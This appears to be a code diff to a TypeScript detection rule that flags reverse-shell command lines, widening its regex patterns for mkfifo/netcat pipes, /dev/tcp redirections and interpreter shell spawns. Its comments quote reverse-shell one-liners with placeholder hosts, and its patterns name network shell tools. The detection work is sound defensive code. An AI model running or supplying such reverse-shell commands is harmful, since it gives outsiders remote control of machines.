@@ -16,12 +16,16 @@ function byTool({ command }: Subject): Hit | null {
   return shell === undefined ? null : { evidence: shell, isGrave: true };
 }
 
-/** `mkfifo f; cat f | sh -i | nc HOST PORT > f`: the pipe leads what is typed far away back. */
-const byShell = [
-  /\bmk(fifo|nod)\b/,
-  /\b(nc(\.\w+)?|ncat|netcat|telnet|socat|s_client)\s/,
-  /\b(ba|da|z|k)?sh\b/,
-] as const;
+const device = /\/dev\/(tcp|udp)\/|\bztcp\b/;
+/** What stands together in a line of a shell that leads what is typed far away into a shell. */
+const byShell: readonly (readonly RegExp[])[] = [
+  // mkfifo f; cat f | sh -i | nc HOST PORT > f
+  [/\bmk(fifo|nod)\b/, /\b(nc(\.\w+)?|ncat|netcat|telnet|socat|s_client)\s/, /\b(ba|da|z|k)?sh\b/],
+  // exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5
+  [device, /\b(ba|da|z|k)?sh\s+(-i\b|\d*[<>]&)/],
+  // cat <&5 | while read line; do $line >&5; done
+  [device, /\bread\s+(?:-r\s+)?(\w+)\s*;?\s*do\s+(?:eval\s+)?"?\$\{?\1\b/],
+];
 
 /** How Python, Perl, Ruby, PHP, Node.js, Lua and gawk make a connection in one line. */
 const connects = new RegExp(
@@ -33,19 +37,19 @@ const connects = new RegExp(
 const runs = new RegExp(
   '\\b(subprocess|pty\\.spawn|child_process|proc_open|shell_exec|passthru|popen|' +
     'os\\.(system|exec\\w+))\\b|\\bsystem\\s*[$(]|' +
-    '\\bexec\\w*\\s*[("\']+(/\\w+)*/\\w*sh\\b|\\|&\\s*getline',
+    '(\\b(exec\\w*|spawn)\\s*[(["\']+|`)(/\\w+)*/?(ba|da|z|k|a)?sh\\b|\\|&\\s*getline',
   'i',
 );
 
 /** Code that stands in the command line: no program of any length is written there. */
-function byCode({ command, program }: Subject): Hit | null {
+function byCode({ command, called }: Subject): Hit | null {
+  const ways = isShell(called) ? byShell : [[runs]];
   const found = command.find((word, index) => {
     if (index === 0 || !/\s|[(;]/.test(word)) return false;
-    const signs = isShell(program) ? byShell : [runs];
-    return signs.every((sign) => sign.test(word));
+    return ways.some((signs) => signs.every((sign) => sign.test(word)));
   });
   if (found === undefined) return null;
-  const isConnected = isShell(program) || command.some((word) => connects.test(word));
+  const isConnected = isShell(called) || command.some((word) => connects.test(word));
   return isConnected ? { evidence: found, isGrave: true } : null;
 }
 
@@ -60,7 +64,7 @@ export default {
   advice: keepAndStop,
   reads: ['commandLine'],
   check(subject) {
-    if (tools.test(subject.program)) return byTool(subject);
-    return isInterpreter(subject.program) ? byCode(subject) : null;
+    if (tools.test(subject.called)) return byTool(subject);
+    return isInterpreter(subject.called) ? byCode(subject) : null;
   },
 } satisfies Warning;
